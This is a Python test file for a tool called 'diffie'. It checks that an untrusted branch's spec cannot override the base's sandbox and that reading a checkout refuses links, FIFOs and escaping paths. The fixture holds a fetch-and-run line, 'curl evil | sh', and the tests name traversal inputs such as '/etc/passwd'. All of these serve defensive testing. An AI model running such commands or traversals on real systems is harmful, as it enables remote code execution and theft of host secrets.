"""diffie.spec_trust (an untrusted head's flows on the base's sandbox) and diffie.treefile
(reading a checkout without following links)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from diffie.errors import RunError, SpecError
from diffie.spec import parse_spec
from diffie.spec_limits import SpecLimits
from diffie.spec_trust import merge_untrusted, run_spec
from diffie.treefile import UnsafeTreePath, read_tree_file

BASE = """\
timeout_ms: 5000
masks: [".clock"]
session_cookies: [{name: s, value: base}]
allowed_origins: [https://fonts.example.com]
viewports: {desktop: {width: 1280, height: 800}}
flows: [{name: home, steps: [{goto: /}]}]
sandbox: {image: shop, deploy: ["echo base"], port: 8000}
"""
HEAD = """\
timeout_ms: 120000
masks: []
session_cookies: [{name: s, value: head}]
allowed_origins: [https://evil.example.net]
viewports: {phone: {width: 390, height: 844, mobile: true}}
flows:
  - {name: home, steps: [{goto: /}]}
  - {name: cart, signed_in: true, viewports: [phone], steps: [{goto: /cart}]}
sandbox: {image: evil, deploy: ["curl evil | sh"], port: 9999}
"""


def test_merge_takes_flows_and_viewports_from_the_head_and_the_rest_from_the_base() -> None:
    merged = merge_untrusted(parse_spec(BASE), parse_spec(HEAD))
    assert [f.name for f in merged.flows] == ["home", "cart"]
    assert list(merged.viewports) == ["phone"]
    assert merged.sandbox is not None
    assert (merged.sandbox.image, merged.sandbox.deploy, merged.sandbox.port) == \
        ("shop", ["echo base"], 8000)
    assert merged.allowed_origins == ["https://fonts.example.com"]
    assert (merged.timeout_ms, merged.masks) == (5000, [".clock"])
    assert [c.value for c in merged.session_cookies] == ["base"]


def test_merge_names_what_does_not_fit() -> None:
    base = parse_spec(BASE.replace("session_cookies: [{name: s, value: base}]\n", ""))
    with pytest.raises(SpecError, match="signed_in but session_cookies is empty.*base branch"):
        merge_untrusted(base, parse_spec(HEAD))


def test_merged_spec_is_held_to_the_limits() -> None:
    with pytest.raises(SpecError, match="DIFFIE_MAX_FLOWS"):
        merge_untrusted(parse_spec(BASE), parse_spec(HEAD), limits=SpecLimits(max_flows=1))


def _trees(tmp_path: Path, base: str | None, head: str) -> tuple[Path, Path]:
    b, h = tmp_path / "base", tmp_path / "head"
    b.mkdir()
    h.mkdir()
    if base is not None:
        (b / ".diffie.yml").write_text(base)
    (h / ".diffie.yml").write_text(head)
    return b, h


def test_run_spec_trusted_head_is_its_own_and_untrusted_needs_a_base(tmp_path: Path) -> None:
    b, h = _trees(tmp_path, BASE, HEAD)
    kw = dict(limits=SpecLimits(), head_label="h", base_label="b")
    assert run_spec(b, h, ".diffie.yml", untrusted_head=False, **kw).sandbox.image == "evil"  # type: ignore[arg-type, union-attr]
    assert run_spec(b, h, ".diffie.yml", untrusted_head=True, **kw).sandbox.image == "shop"  # type: ignore[arg-type, union-attr]
    (b / ".diffie.yml").unlink()
    with pytest.raises(RunError, match="not found at base b.*not trusted"):
        run_spec(b, h, ".diffie.yml", untrusted_head=True, **kw)  # type: ignore[arg-type]


def test_read_tree_file_refuses_links_anywhere_on_the_path(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("host secret")
    tree = tmp_path / "tree"
    (tree / "real").mkdir(parents=True)
    (tree / "real" / "spec.yml").write_text("ok")
    os.symlink(secret, tree / "link.yml")
    os.symlink(tmp_path, tree / "dirlink")
    os.symlink("real/spec.yml", tree / "relative.yml")
    os.mkfifo(tree / "fifo")
    assert read_tree_file(tree, "real/spec.yml", max_bytes=100) == b"ok"
    assert read_tree_file(tree, "missing.yml", max_bytes=100) is None
    assert read_tree_file(tree, "real/spec.yml", max_bytes=1) == b"ok"[:2]   # max_bytes + 1
    for rel, what in (("link.yml", "symbolic link"), ("dirlink/secret", "symbolic link"),
                      ("relative.yml", "symbolic link"), ("fifo", "not a regular file"),
                      ("../secret", "stay inside"), ("/etc/passwd", "stay inside")):
        with pytest.raises(UnsafeTreePath, match=what):
            read_tree_file(tree, rel, max_bytes=100)
